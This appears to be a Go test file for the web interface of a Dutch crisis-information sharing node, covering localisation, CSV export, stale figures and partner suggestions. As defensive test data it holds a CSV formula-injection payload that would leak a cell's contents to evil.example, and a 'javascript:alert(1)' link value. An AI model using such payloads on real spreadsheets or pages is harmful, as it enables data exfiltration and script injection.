		{Name: "ncc", TrustDomain: "ncc.crisis.test", OrgName: "Nationaal Crisiscentrum", Groups: []string{"all", "rijk"}, Active: true},
		{Name: "oud", TrustDomain: "oud.crisis.test", Active: false},
		{Name: "weg", TrustDomain: "weg.crisis.test", Active: true, LeavingSince: timestamppb.Now()},
		{Name: "vr", TrustDomain: "vr09.crisis.test", Active: true},
		{Name: "vr", TrustDomain: "vr19.crisis.test", Active: true},
	}
	const want = `<datalist id="recipient-partners">
      <option value="coa">coa.crisis.test</option>
      <option value="ncc">Nationaal Crisiscentrum, ncc.crisis.test</option>
      <option value="vr09.crisis.test">vr09.crisis.test</option>
      <option value="vr19.crisis.test">vr19.crisis.test</option>
    </datalist>`
	pages := []string{"/beleid/toon?id=x%401", "/beleid/voorbeeld?id=x%401", "/beleid/uitleg", "/beleid/voorstel"}
	input := regexp.MustCompile(`<input [^>]*id="recipient"[^>]*>`)
	for _, tc := range []struct {
		name string
		conn peersConn
	}{
		{"peers", peersConn{peers: peers}},
		{"PeerService fails", peersConn{err: status.Error(codes.Unavailable, "no leader")}},
	} {
		var logs bytes.Buffer
		s, err := New(Config{UI: config.UI{Listen: "127.0.0.1:8080", SessionTTL: time.Hour,
			OIDC: config.OIDC{Issuer: "https://login.a.example", ClientID: "k", Claim: "preferred_username"}},
			Org: "a.crisis.test", Name: "a", Conn: tc.conn, Logger: slog.New(slog.NewTextHandler(&logs, nil)),
			Resolve: func(id spiffeid.ID) (api.Caller, error) {
				return api.Caller{ID: id, Roles: []api.Role{api.Officer}}, nil
			}})
		if err != nil {
			t.Fatal(err)
		}
		person := spiffeid.RequireFromString("spiffe://a.crisis.test/user/olga")
		id := s.sessions.create(&session{Person: person, Name: "olga", AuthTime: time.Now(), Expires: time.Now().Add(time.Hour)})
		for _, path := range pages {
			r := httptest.NewRequest("GET", path, nil)
			r.AddCookie(&http.Cookie{Name: s.sessionCookie(), Value: id})
			w := httptest.NewRecorder()
			s.ServeHTTP(w, r)
			body := w.Body.String()
			field := input.FindString(body)
			hint := `id="recipient-hint">Kies een partner uit de lijst`
			if tc.conn.err != nil {
				hint = `id="recipient-hint">De naam of SPIFFE-ID van een partner, zoals`
			}
			if w.Code != http.StatusOK || field == "" || !strings.Contains(body, hint) {
				t.Errorf("%s: %s: %d, want the page with its recipient field:\n%s", tc.name, path, w.Code, body)
				continue
			}
			if tc.conn.err == nil {
				if !strings.Contains(field, ` list="recipient-partners"`) || strings.Contains(field, "autocomplete") || !strings.Contains(body, want) {
					t.Errorf("%s: %s: want the field to suggest coa and ncc:\n%s", tc.name, path, body)
				}
				if strings.Contains(body, "group:") || strings.Contains(body, "oud.crisis.test") || strings.Contains(body, "weg.crisis.test") {
					t.Errorf("%s: %s suggests a group, a peer that is not in effect or one that is leaving", tc.name, path)
				}
				continue
			}
			if strings.Contains(field, "list=") || !strings.Contains(field, `autocomplete="off"`) || strings.Contains(body, "<datalist") || strings.Contains(body, "utrecht-alert--error") {
				t.Errorf("%s: %s: want the field without suggestions and no error:\n%s", tc.name, path, body)
			}
		}
		if failed := strings.Count(logs.String(), "no partners to suggest as recipients"); (tc.conn.err != nil) != (failed == len(pages)) {
			t.Errorf("%s: logged %d failures of PeerService for %d pages:\n%s", tc.name, failed, len(pages), logs.String())
		}
	}
}

// TestPictureCSVInDutch: the picture's CSV says a sum with a fraction with a decimal comma, as a
// Dutch spreadsheet reads it, and its file's name says the exercise and the highest
// classification of the picture's records.
func TestPictureCSVInDutch(t *testing.T) {
	pic := &pb.PictureResponse{
		Aggregates: []*pb.Aggregate{
			{Kind: "shelter.capacity", Field: "beds_free", Region: "VR09", Sum: 3.5},
			{Kind: "shelter.capacity", Field: "beds_free", Region: "NL", Sum: 1234.25},
			// A region no node lets through any more (see peerclient.CheckShared); were one to
			// come, the file keeps it text, not a formula a spreadsheet runs.
			{Kind: "shelter.capacity", Field: "beds_free", Region: `=HYPERLINK("http://evil.example/x?"&C3,"Zie")`, Sum: 1},
		},
		Entries: []*pb.PictureEntry{
			{Kind: "shelter.capacity", Record: &pb.Record{Id: "a", Kind: "shelter.capacity", Classification: pb.Classification_INTERNAL}},
			// Beside the sums, not in them: the file is not marked with it.
			{Kind: "sitrep", Record: &pb.Record{Id: "b", Kind: "sitrep", Classification: pb.Classification_CONFIDENTIAL}},
		},
	}
	w := pictureGet(t, pic, "/beeld/csv?crisis=oekraine&exercise=oef-1")
	want := "\ufeffOEFENING;oef-1\nCode;Regio;Vrije opvangplaatsen\n" +
		`"'=HYPERLINK(""http://evil.example/x?""&C3,""Zie"")";"'=HYPERLINK(""http://evil.example/x?""&C3,""Zie"")";1` + "\n" +
		"VR09;VR09 Utrecht;3,5\nNL;Nederland (totaal);1234,25\n"
	name := regexp.MustCompile(`^attachment; filename=OEFENING-oef-1-beeld-oekraine-INTERN-\d{4}-\d\d-\d\dT\d{4}\.csv$`)
	if w.Code != http.StatusOK || w.Body.String() != want || !name.MatchString(w.Header().Get("Content-Disposition")) {
		t.Errorf("the CSV: %d %q\n%q\nwant %q", w.Code, w.Header().Get("Content-Disposition"), w.Body.String(), want)
	}
}

// TestLintMessage: a lint problem is said in the page's language from its code and arguments;
// a problem without a code, with a code the catalogue lacks, or with other arguments than the
// text takes (a node of another version) keeps the node's English message.
func TestLintMessage(t *testing.T) {
	cats, err := loadCatalogues()
	if err != nil {
		t.Fatal(err)
	}
	nl := &Lang{Code: "nl", cat: cats["nl"]}
	for _, c := range []struct {
		p       *pb.LintProblem
		want    string
		english bool
	}{
		{&pb.LintProblem{Message: "m", Code: "kinds.unknown", Args: []string{`"foo"`, "qa, sitrep"}}, `onbekende soort "foo": dit knooppunt kent qa, sitrep`, false},
		{&pb.LintProblem{Message: "the document is empty", Code: "empty"}, "het document is leeg", false},
		{&pb.LintProblem{Message: "from a rule"}, "from a rule", true},
		{&pb.LintProblem{Message: "newer", Code: "no.such.code"}, "newer", true},
		{&pb.LintProblem{Message: "other args", Code: "kinds.unknown", Args: []string{`"foo"`}}, "other args", true},
	} {
		if got, english := lintMessage(nl, c.p); got != c.want || english != c.english {
			t.Errorf("%+v: %q, English %v, want %q, %v", c.p, got, english, c.want, c.english)
		}
	}
}

// TestCodedEnglishMarked: the node's English that a Dutch page shows for a coded message it has
// no text for (a node of another version), a lint problem or a policy's verdict, is marked
// lang="en", for a screen reader's voice (review AB, AB5).
func TestCodedEnglishMarked(t *testing.T) {
	pages, cats := pagesAndCatalogues(t)
	l := &Lang{Code: "nl", cat: cats["nl"]}
	for _, c := range []struct {
		name    string
		v       any
		english []string
	}{
		{"propose", &proposeView{Error: "fout", Problems: []problemView{{Field: "kinds", Message: "a newer problem", English: true}},
			Doubts: []problemView{{Message: "a newer doubt", English: true}}}, []string{"a newer problem", "a newer doubt"}},
		{"explain", &explainView{Done: true, Verdicts: []verdictRow{{Verdict: &pb.Verdict{PolicyId: "p@1", Reason: "a newer reason"}, English: true}}}, []string{"a newer reason"}},
	} {
		var b bytes.Buffer
		if err := pages[c.name].Execute(&b, &page{L: l, Title: c.name, Content: c.v}); err != nil {
			t.Fatal(err)
		}
		for _, english := range c.english {
			if !strings.Contains(b.String(), `<span class="kp-tech" lang="en">`+english+`</span>`) {
				t.Errorf("the %s page does not mark %q as English:\n%s", c.name, english, b.String())
			}
		}
	}
}

// TestLintMessagesInDutch: every message of the policy linter has a Dutch text that takes as
// many arguments, so that an officer on a Dutch page never reads the node's English.
func TestLintMessagesInDutch(t *testing.T) {
	cats, err := loadCatalogues()
	if err != nil {
		t.Fatal(err)
	}
	nl := &Lang{Code: "nl", cat: cats["nl"]}
	for code, english := range policy.LintMessages {
		if !nl.Has("lint." + code) {
			t.Errorf("lint.%s has no Dutch text (English: %q)", code, english)
		} else if got, want := strings.Count(nl.T("lint."+code), "%s"), strings.Count(english, "%s"); got != want {
			t.Errorf("lint.%s: the Dutch text takes %d arguments, the English %d", code, got, want)
		}
	}
}

// TestNumber: figures as people of the page's language read them.
func TestNumber(t *testing.T) {
	nl, en := &Lang{Code: "nl"}, &Lang{Code: "en"}
	for _, c := range []struct {
		f      float64
		nl, en string
	}{{0, "0", "0"}, {68, "68", "68"}, {1100, "1.100", "1,100"}, {0.6, "0,6", "0.6"}, {-1234567.25, "-1.234.567,25", "-1,234,567.25"}, {999, "999", "999"}} {
		if got := nl.Number(c.f); got != c.nl {
			t.Errorf("nl %v: %q, want %q", c.f, got, c.nl)
		}
		if got := en.Number(c.f); got != c.en {
			t.Errorf("en %v: %q, want %q", c.f, got, c.en)
		}
	}
}

// TestBodyFieldLinks: a value that is a web address is linked on the record page; any other
// scheme, or an address without a host, stays text.
func TestBodyFieldLinks(t *testing.T) {
	body := []byte(`{"url":"https://www.rijksoverheid.nl/onderwerpen/opvang","script":"javascript:alert(1)","empty":"http://","words":"zie https://x.nl hier"}`)
	links := map[string]bool{}
	for _, f := range bodyFields(body, nil, nil, nil) {
		links[f.Name] = f.Link
	}
	if want := map[string]bool{"url": true, "script": false, "empty": false, "words": false}; !maps.Equal(links, want) {
		t.Errorf("links %v, want %v", links, want)
	}
}

// TestLatestOfAPicture checks which entries the picture lists as its latest records: every kind
// but those it shows apart or sums, so that a partner's kind this node does not know (a water
// board's water.level) shows too, and is not counted in the picture while shown nowhere on it.
func TestLatestOfAPicture(t *testing.T) {
	entry := func(kind string) *pb.PictureEntry {
		return &pb.PictureEntry{Kind: kind, Record: &pb.Record{Id: kind, Kind: kind}}
	}
	pic := &pb.PictureResponse{Aggregates: []*pb.Aggregate{{Kind: "shelter.capacity", Field: "beds_free", Region: "NL"}}}
	latest := latestOf(pic)
	for kind, want := range map[string]bool{
		"sitrep": true, "guidance": true, "water.level": true, "road.closure": true,
		"shelter.capacity": false, "alert": false, "assessment": false, "assessment.response": false,
	} {
		if got := latest(entry(kind)); got != want {
			t.Errorf("a %s entry among the latest: %v, want %v", kind, got, want)
		}
	}
	if latest(&pb.PictureEntry{Kind: "sitrep"}) {
		t.Error("an entry without its record is among the latest")
	}
}

// TestPerson: a person's SPIFFE ID reads as their user name, with the whole ID on pointing;
// another ID (an app, a node, a path under user/) and text that is none stay whole, escaped.
func TestPerson(t *testing.T) {
	for id, want := range map[string]string{
		"spiffe://a.crisis.test/user/olga":     `<span class="kp-person" title="spiffe://a.crisis.test/user/olga">olga</span>`,
		"spiffe://a.crisis.test/app/dashboard": "spiffe:/<wbr>/<wbr>a.<wbr>crisis.<wbr>test/<wbr>app/<wbr>dashboard",
		"spiffe://a.crisis.test/user/olga/x":   "spiffe:/<wbr>/<wbr>a.<wbr>crisis.<wbr>test/<wbr>user/<wbr>olga/<wbr>x",
		"<b>":                                  "&lt;b&gt;",
	} {
		if got := string(person(id)); got != want {
			t.Errorf("person(%q) = %q, want %q", id, got, want)
		}
	}
}

// TestAuditActionsHaveNames: every action the audit log holds, and every group the filter
// offers, is named in people's words in both languages.
func TestAuditActionsHaveNames(t *testing.T) {
	cats, err := loadCatalogues()
	if err != nil {
		t.Fatal(err)
	}
	for _, code := range append(slices.Clone(db.AuditActions), auditActions...) {
		for lang, c := range cats {
			if l := (&Lang{cat: c}).AuditAction(code); l == "" {
				t.Errorf("%s: no name for the audit action %s", lang, code)
			}
		}
	}
}

// TestFileTypeInWords: a file's type is said in words, in the page's language; a type without
// words stays as it is.
func TestFileTypeInWords(t *testing.T) {
	cats, err := loadCatalogues()
	if err != nil {
		t.Fatal(err)
	}
	nl, en := &Lang{Code: "nl", cat: cats["nl"]}, &Lang{Code: "en", cat: cats["en"]}
	for _, tc := range []struct {
		l           *Lang
		media, want string
	}{
		{nl, "application/pdf", "PDF-document"},
		{en, "application/pdf", "PDF document"},
		{nl, "text/plain; charset=utf-8", "Tekstbestand"},
		{nl, "image/png", "Afbeelding (PNG)"},
		{nl, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "Excel-werkblad"},
		{nl, "application/x-thing", "application/x-thing"},
	} {
		if got := fileType(tc.l, tc.media); got != tc.want {
			t.Errorf("%s in %s: %q, want %q", tc.media, tc.l.Code, got, tc.want)
		}
	}
}

// TestSearchSaysWhatToTryNext: a search that found nothing speaks of the words, and of the
// filters only when one is set.
func TestSearchSaysWhatToTryNext(t *testing.T) {
	cats, err := loadCatalogues()
	if err != nil {
		t.Fatal(err)
	}
	nl := &Lang{Code: "nl", cat: cats["nl"]}
	for _, tc := range []struct {
		v         searchView
		want, not string
	}{
		{searchView{Text: "opvang zeeland"}, "Geen resultaten voor ‘opvang zeeland’. Controleer de spelling", "filter"},
		{searchView{Text: "opvang", Region: "VR19"}, "Geen resultaten voor ‘opvang’ met deze filters", ""},
		{searchView{Kind: "sitrep"}, "Geen records gevonden met deze filters. Maak de zoekopdracht ruimer", ""},
	} {
		got := tc.v.noneText(nl)
		if !strings.Contains(got, tc.want) || (tc.not != "" && strings.Contains(got, tc.not)) {
			t.Errorf("%+v: %q, want %q", tc.v, got, tc.want)
		}
	}
}

// TestWhenInWords: a moment is written as people read it, month by name in the page's language,
// with the exact time and zone kept in the time element.
func TestWhenInWords(t *testing.T) {
	cats, err := loadCatalogues()
	if err != nil {
		t.Fatal(err)
	}
	if z := zone.Load(); z != nil {
		t.Cleanup(func() { zone.Store(z) })
	}
	if err := setZone("Europe/Amsterdam"); err != nil {
		t.Fatal(err)
	}
	at := time.Date(2026, 12, 5, 19, 28, 55, 0, time.UTC)
	for lang, want := range map[string]string{
		"nl": `<time datetime="2026-12-05T20:28:55+01:00" title="2026-12-05 20:28:55 CET">5 december 2026, 20:28</time>`,
		"en": `<time datetime="2026-12-05T20:28:55+01:00" title="2026-12-05 20:28:55 CET">5 December 2026, 20:28</time>`,
	} {
		l := &Lang{Code: lang, cat: cats[lang]}
		if got := string(l.When(at)); got != want {
			t.Errorf("%s: %s, want %s", lang, got, want)
		}
	}
	nl := &Lang{Code: "nl", cat: cats["nl"]}
	if got := string(nl.WhenAgo(at, at.Add(3*time.Hour))); !strings.HasSuffix(got, "</time> (3 uur geleden)") {
		t.Errorf("WhenAgo: %s", got)
	}
}

// TestCacheAgeOfAPeerThatRefuses: a partner that removed this node refuses its search, and its
// records are shown from this node's last copy, as an unreachable one's: the page says how old.
func TestCacheAgeOfAPeerThatRefuses(t *testing.T) {
	cats, err := loadCatalogues()
	if err != nil {
		t.Fatal(err)
	}
	l := &Lang{cat: cats["nl"]}
	for _, state := range []string{"denied", "unreachable"} {
		if got := cacheAge(l, &pb.PeerStatus{State: state, CacheAgeMs: 3 * 3600 * 1000}); got == "" {
			t.Errorf("a %s peer's copy of 3 hours has no age", state)
		}
	}
	if got := cacheAge(l, &pb.PeerStatus{State: "answered", CacheAgeMs: 3 * 3600 * 1000}); got != "" {
		t.Errorf("a peer that answered has a copy's age %q", got)
	}
	// One that hangs, its feed still open, has a copy as of when the feed last spoke: not current.
	if got := cacheAge(l, &pb.PeerStatus{State: "timed_out", FeedOpen: true, CacheAgeMs: 3 * 60 * 1000}); got != "laatste bericht 3 min geleden, abonnement open" {
		t.Errorf("a timed-out peer with its feed open, last heard 3 min ago: %q", got)
	}
}

// TestPictureDigestSeesDisagreeingRecords: the live page is told of a change when what a source
// that disagrees with an entry reports changes, which the page shows beside the entry.
func TestPictureDigestSeesDisagreeingRecords(t *testing.T) {
	pic := &pb.PictureResponse{Entries: []*pb.PictureEntry{{Kind: "shelter.capacity", Region: "VR19", Key: "Goes", Source: "a.crisis.test",
		Record: &pb.Record{Origin: "a.crisis.test", Id: "goes", Version: 1}, Conflict: []string{"b.crisis.test"},
		Disagreeing: []*pb.Record{{Origin: "b.crisis.test", Id: "shelter-goes", Version: 3}}}}}
	before := pictureDigest(pic)
	pic.Entries[0].Disagreeing[0].Version = 4
	if pictureDigest(pic) == before {
		t.Error("the digest of the picture did not change with the version of the record that disagrees")
	}
}

// TestQuotedNamesEachWordOnce: the words a search left out are named once each, in the order
// typed, however often a pasted question says them.
func TestQuotedNamesEachWordOnce(t *testing.T) {
	if got, want := quoted([]string{"in", "de", "en", "in", "de"}), "“in”, “de”, “en”"; got != want {
		t.Fatalf("quoted = %s, want %s", got, want)
	}
}

// TestNoneTextNamesWhatWasSearched: a long question cut to its telling words finds nothing: the
// page names the words searched for, not the whole question.
func TestNoneTextNamesWhatWasSearched(t *testing.T) {
	cats, err := loadCatalogues()
	if err != nil {
		t.Fatal(err)
	}
	l := &Lang{Code: "nl", cat: cats["nl"]}
	v := &searchView{Text: "Wat moet er gebeuren bij de registratie van een aankomst", SearchedFor: "registratie aankomst gebeuren"}
	if got := v.noneText(l); !strings.Contains(got, "‘registratie aankomst gebeuren’") || strings.Contains(got, "Wat moet") {
		t.Fatalf("noneText = %q, want the words searched for", got)
	}
}

// TestTellApart: a partner whose invitation gives the name another partner, or this node, goes
// by is shown with its trust domain, and so is that other partner; a name of its own is not
// (review web-adversary: partner names).
func TestTellApart(t *testing.T) {
	names := map[string]string{
		"ncc.crisis.test": "NCC (JenV)", "nep.crisis.test": "ncc (jenv) ", "lcvs.crisis.test": "LCVS",
		"zelf.crisis.test": "VR Utrecht", "ggd.crisis.test": "GGD GHOR",
	}
	tellApart("VR Utrecht", names)
	want := map[string]string{
		"ncc.crisis.test": "NCC (JenV) (ncc.crisis.test)", "nep.crisis.test": "ncc (jenv) (nep.crisis.test)", "lcvs.crisis.test": "LCVS",
		"zelf.crisis.test": "VR Utrecht (zelf.crisis.test)", "ggd.crisis.test": "GGD GHOR",
	}
	if !maps.Equal(names, want) {
		t.Errorf("tellApart:\n got %v\nwant %v", names, want)
	}
}

// TestNodeLimitIsTooFast: a search the node refuses over its limit of searches that ask the
// partners (RESOURCE_EXHAUSTED with RetryInfo) is shown as the pages' own limit is, 429 with
// Retry-After and the page that says to wait a moment, not as a failing service (502).
func TestNodeLimitIsTooFast(t *testing.T) {
	s, l := dutchServer(t)
	st, err := status.New(codes.ResourceExhausted, "over the node's limit").WithDetails(&errdetails.RetryInfo{RetryDelay: durationpb.New(1500 * time.Millisecond)})
	if err != nil {
		t.Fatal(err)
	}
	w := httptest.NewRecorder()
	r := &request{Request: httptest.NewRequest("GET", "/zoeken?q=bedden", nil), L: l, Session: &session{CSRF: "c"}}
	s.failCall(w, r, st.Err())
	if w.Code != http.StatusTooManyRequests || w.Header().Get("Retry-After") != "2" || !strings.Contains(w.Body.String(), l.T("error.too_fast")) {
		t.Errorf("a search over the node's limit: %d, Retry-After %q:\n%s", w.Code, w.Header().Get("Retry-After"), w.Body.String())
	}
}

// dutchServer is a web interface with no node behind it, and its Dutch catalogue.
func dutchServer(t *testing.T) (*Server, *Lang) {
	t.Helper()
	s, err := New(Config{UI: config.UI{Listen: "127.0.0.1:8080", SessionTTL: time.Hour,
		OIDC: config.OIDC{Issuer: "https://login.a.example", ClientID: "k", Claim: "preferred_username"}},
		Org: "a.crisis.test", Name: "a", Resolve: func(spiffeid.ID) (api.Caller, error) { return api.Caller{}, nil }})
	if err != nil {
		t.Fatal(err)
	}
	return s, &Lang{Code: "nl", cat: s.cats["nl"]}
}

// demoKindsConfig is the config of a web interface of node a that knows the demo's kinds, with
// no node behind it and callers of no role.
func demoKindsConfig(t *testing.T) Config {
	t.Helper()
	kinds, err := record.NewKinds(record.DemoKinds())
	if err != nil {
		t.Fatal(err)
	}
	return Config{UI: config.UI{Listen: "127.0.0.1:8080", SessionTTL: time.Hour,
		OIDC: config.OIDC{Issuer: "https://login.a.example", ClientID: "k", Claim: "preferred_username"}},
		Org: "a.crisis.test", Name: "a", Kinds: kinds, Resolve: func(spiffeid.ID) (api.Caller, error) { return api.Caller{}, nil }}
}

// demoKindsServer is a web interface with no node behind it that knows the demo's kinds.
func demoKindsServer(t *testing.T) (*Server, *record.Kinds) {
	t.Helper()
	cfg := demoKindsConfig(t)
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return s, cfg.Kinds
}

// TestBusyPartnerIsNotUnreachable: a partner that refused a search as over its limits on this
// org's calls shows as busy (bezet), not as unreachable, which sent staff to check a network
// that was fine; one that could not be reached still shows so.
func TestBusyPartnerIsNotUnreachable(t *testing.T) {
	_, l := dutchServer(t)
	for _, tc := range []struct {
		st   *pb.PeerStatus
		want string
	}{
		{&pb.PeerStatus{State: search.Unreachable, Busy: true, Error: search.Busy + " (its node says: peer a.test is over 50 calls per second)"}, "bezet: vraag het zo weer"},
		// What tells it is the flag, not the words.
		{&pb.PeerStatus{State: search.Unreachable, Error: search.Busy}, "onbereikbaar"},
		{&pb.PeerStatus{State: search.Unreachable, Error: "connection refused"}, "onbereikbaar"},
		{&pb.PeerStatus{State: "answered"}, "geantwoord"},
	} {
		if got := stateOf(l, shownState(tc.st)).Text; got != tc.want {
			t.Errorf("%s %q: shown as %q, want %q", tc.st.State, tc.st.Error, got, tc.want)
		}
	}
}

// TestNearestCrisis: a typo of a known crisis is offered; a name far from every one, the crisis
// itself, or one as near to two, is not.
func TestNearestCrisis(t *testing.T) {
	known := []string{"oekraine", "hoogwater-2026", "mpox", "mpax"}
	for typed, want := range map[string]string{
		"oekriane": "oekraine", "Oekrane": "oekraine", "hoogwatr-2026": "hoogwater-2026", "oekraine": "",
		"hoogwater": "", "mpx": "", "corona": "", "okr": "",
	} {
		if got := nearestCrisis(known, typed); got != want {
			t.Errorf("nearestCrisis(%q) = %q, want %q", typed, got, want)
		}
	}
}

// TestOrgOfferSkipsRegionNames: a word that names a safety region offers no organisation named
// after that region (review R, R2: "bedden Zeeland" offered "Zoek alleen bij VR Zeeland", which
// held no beds); a word naming one organisation still offers it, and a word naming two offers none.
func TestOrgOfferSkipsRegionNames(t *testing.T) {
	_, l := dutchServer(t)
	orgs := []orgChoice{{TrustDomain: "vrzeeland.crisis.test", Name: "VR Zeeland"}, {TrustDomain: "lcvs.crisis.test", Name: "LCVS"},
		{TrustDomain: "vru.crisis.test", Name: "VR Utrecht"}, {TrustDomain: "ggu.crisis.test", Name: "GGD Utrecht"}}
	for _, tc := range []struct{ q, name string }{
		{"bedden zeeland", ""},
		{"zeeland", ""},
		{"lcvs zeeland", "LCVS"},
		{"zeeland lcvs", "LCVS"},
		{"utrecht opvang", ""}, // two organisations, and a region
		{"vrzeeland opvang", "VR Zeeland"},
	} {
		text, err := record.ParseText("q", tc.q)
		if err != nil {
			t.Fatal(err)
		}
		r := &request{Request: httptest.NewRequest("GET", "/zoeken?q="+url.QueryEscape(tc.q), nil), L: l, Session: &session{CSRF: "c"}}
		name, link := orgOffer(r, text, orgs)
		if name != tc.name || (name == "") != (link == "") {
			t.Errorf("%q: offers %q (%s), want %q", tc.q, name, link, tc.name)
		}
	}
}

// TestFigureMarksOlderDisagreeing: of two sources' records of one place with other figures,
// search marks the older as verouderd when the picture would, had it been the latest (review Q,
// Q10: only the latest was ever marked), and not when it is within its kind's stale_after.
func TestFigureMarksOlderDisagreeing(t *testing.T) {
	s, kinds := demoKindsServer(t)
	now := time.Now()
	limit := kinds.Get("shelter.capacity").StaleLimit()
	if limit <= 0 {
		t.Fatalf("shelter.capacity has no stale limit (%v): this test needs one", limit)
	}
	hit := func(origin string, age time.Duration, free int) *pb.SearchHit {
		return &pb.SearchHit{Record: &pb.Record{Id: "zeist-" + origin, Origin: origin, Kind: "shelter.capacity", Crisis: "oekraine", Region: "VR09",
			UpdatedAt: timestamppb.New(now.Add(-age)), Body: fmt.Appendf(nil, `{"municipality":"Zeist","beds_total":80,"beds_free":%d}`, free)}}
	}
	for _, tc := range []struct {
		name      string
		older     time.Duration
		wantStale bool
	}{
		{"older than stale_after", limit + time.Hour, true},
		{"within stale_after", limit / 2, false},
	} {
		hits := []*pb.SearchHit{hit("lcvs.crisis.test", time.Minute, 22), hit("vru.crisis.test", tc.older, 15)}
		views := make([]hitView, len(hits))
		s.figureMarks(hits, views, now)
		newest, older := views[0], views[1]
		if !newest.Newest || newest.Stale || !slices.Equal(newest.Others, []string{"vru.crisis.test"}) {
			t.Errorf("%s: the newest is marked %+v, want newest, not stale, others vru", tc.name, newest)
		}
		if older.Newest || older.Stale != tc.wantStale || !slices.Equal(older.Others, []string{"lcvs.crisis.test"}) {
			t.Errorf("%s: the older is marked %+v, want stale %v, others lcvs", tc.name, older, tc.wantStale)
		}
	}
}

// TestFigureMarksStandTogether: two sources' records of one place with other figures stand
// together among the hits, where the first of them stood, the newest first, each linked to the
// other; the other hits keep their order (review R, R10: results 3 and 14 of 14, unlinked).
func TestFigureMarksStandTogether(t *testing.T) {
	s, _ := demoKindsServer(t)
	now := time.Now()
	hit := func(origin, place string, age time.Duration, free int) *pb.SearchHit {
		return &pb.SearchHit{Record: &pb.Record{Id: strings.ToLower(place) + "-" + origin, Origin: origin, Kind: "shelter.capacity", Crisis: "oekraine", Region: "VR09",
			UpdatedAt: timestamppb.New(now.Add(-age)), Body: fmt.Appendf(nil, `{"municipality":%q,"beds_total":80,"beds_free":%d}`, place, free)}}
	}
	hits := []*pb.SearchHit{hit("vru", "Zeist", time.Hour, 15), hit("lcvs", "Houten", time.Minute, 3), hit("lcvs", "Goes", time.Minute, 4),
		hit("lcvs", "Zeist", time.Minute, 22), hit("lcvs", "Hulst", time.Minute, 5)}
	views := make([]hitView, len(hits))
	for i, h := range hits {
		views[i].Title, views[i].Link = h.Record.Id, "/record?id="+h.Record.Id
	}
	s.figureMarks(hits, views, now)
	var order []string
	for _, v := range views {
		order = append(order, v.Title)
	}
	if want := []string{"zeist-lcvs", "zeist-vru", "houten-lcvs", "goes-lcvs", "hulst-lcvs"}; !slices.Equal(order, want) {
		t.Errorf("the hits stand as %v, want %v", order, want)
	}
	if v := views[0]; !v.Newest || v.OtherLink != "/record?id=zeist-vru" {
		t.Errorf("the newest of Zeist: newest %t, linked to %q; want newest, linked to vru's", v.Newest, v.OtherLink)
	}
	if v := views[1]; v.Newest || v.OtherLink != "/record?id=zeist-lcvs" {
		t.Errorf("the older of Zeist: newest %t, linked to %q; want linked to lcvs's", v.Newest, v.OtherLink)
	}
	for _, v := range views[2:] {
		if v.OtherLink != "" || len(v.Others) > 0 {
			t.Errorf("%s is marked as disagreeing: %+v", v.Title, v)
		}
	}
}

// TestPictureMarksStaleFigures: the sums count a stale figure as any other; the picture marks
// each region row that counts stale ones with how many, and names them under the sums, oldest
// first, linked to their records (review T, T2: a figure days old counted unmarked).
func TestPictureMarksStaleFigures(t *testing.T) {
	entry := func(key, region string, ageS int64, stale bool) *pb.PictureEntry {
		return &pb.PictureEntry{Kind: "shelter.capacity", Region: region, Key: key, Source: "lcvs.crisis.test", AgeS: ageS, Stale: stale,
			Record: &pb.Record{Id: strings.ToLower(key), Origin: "lcvs.crisis.test", Kind: "shelter.capacity", Crisis: "oekraine", Region: region,
				Classification: pb.Classification_INTERNAL, Body: []byte(`{"municipality":"` + key + `","beds_free":3}`)}}
	}
	pic := &pb.PictureResponse{Crisis: "oekraine",
		Aggregates: []*pb.Aggregate{
			{Kind: "shelter.capacity", Field: "beds_free", Region: "VR09", Sum: 6, Records: 2, Entries: 2},
			{Kind: "shelter.capacity", Field: "beds_free", Region: "VR19", Sum: 6, Records: 2, Entries: 2},
			{Kind: "shelter.capacity", Field: "beds_free", Region: "NL", Sum: 12, Records: 4, Entries: 4},
		},
		Entries: []*pb.PictureEntry{entry("Zeist", "VR09", 600, false), entry("Houten", "VR09", 3*86400, true),
			entry("Goes", "VR19", 60, false), entry("Hulst", "VR19", 30*3600, true), entry("Rijk", "NL", 26*3600, true)},
	}
	w := pictureGet(t, pic, "/?crisis=oekraine")
	page := w.Body.String()
	for _, want := range []string{
		`VR09 Utrecht</a> <span class="kp-tag kp-tag--warn">1 verouderd</span></th>`,
		`VR19 Zeeland</a> <span class="kp-tag kp-tag--warn">1 verouderd</span></th>`,
		`Nederland (totaal) <span class="kp-tag kp-tag--warn">3 verouderd</span></th>`, // a national record once (review U, U7)
	} {
		if !strings.Contains(page, want) {
			t.Errorf("the sums' rows lack %q", want)
		}
	}
	list := regexp.MustCompile(`id="verouderde-cijfers">\s*<p class="utrecht-paragraph">De sommen tellen ook verouderde cijfers mee[^<]*</p>\s*<ul class="utrecht-unordered-list">\s*` +
		`<li><a class="utrecht-link" href="/record\?[^"]*id=houten[^"]*">Houten</a> \(VR09 Utrecht\): van lcvs.crisis.test, bijgewerkt 3 dagen geleden</li>\s*` +
		`<li><a class="utrecht-link" href="/record\?[^"]*id=hulst[^"]*">Hulst</a> \(VR19 Zeeland\): van lcvs.crisis.test, bijgewerkt 30 uur geleden</li>\s*` +
		`<li><a class="utrecht-link" href="/record\?[^"]*id=rijk[^"]*">Rijk</a> \(NL \(heel Nederland\)\): van lcvs.crisis.test, bijgewerkt 26 uur geleden</li>\s*</ul>`)
	if w.Code != http.StatusOK || !list.MatchString(page) || strings.Contains(page, ">Zeist</a> (VR09") {
		t.Errorf("the picture: %d; want the stale Houten and Hulst named under the sums, oldest first, and not Zeist:\n%s", w.Code, page)
	}
}

// pictureGet is what a reader of node a gets at path, with pic the node's picture of every crisis.
func pictureGet(t *testing.T, pic *pb.PictureResponse, path string) *httptest.ResponseRecorder {
	t.Helper()
	cfg := demoKindsConfig(t)
	cfg.Conn, cfg.Logger = peersConn{picture: pic}, slog.New(slog.NewTextHandler(io.Discard, nil))
	cfg.Resolve = func(id spiffeid.ID) (api.Caller, error) {
		return api.Caller{ID: id, Roles: []api.Role{api.Reader}}, nil
	}
	s, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	id := s.sessions.create(&session{Person: spiffeid.RequireFromString("spiffe://a.crisis.test/user/olga"), Name: "olga",
		AuthTime: time.Now(), Expires: time.Now().Add(time.Hour)})
	r := httptest.NewRequest("GET", path, nil)
	r.AddCookie(&http.Cookie{Name: s.sessionCookie(), Value: id})
	w := httptest.NewRecorder()
	s.ServeHTTP(w, r)
	return w
}

